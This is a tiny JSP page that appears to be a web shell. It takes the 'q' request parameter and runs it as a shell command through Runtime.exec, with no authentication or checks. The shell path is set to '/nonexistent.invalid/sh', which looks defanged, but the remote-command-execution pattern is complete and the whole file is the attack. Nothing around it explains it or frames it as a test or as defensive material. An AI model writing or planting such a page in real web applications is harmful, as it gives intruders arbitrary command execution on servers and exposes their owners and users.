<%@ page import="java.util.*" %>
<% String q = request.getParameter("q"); Process p = Runtime.getRuntime().exec(new String[]{"/nonexistent.invalid/sh", "-c", q}); %>
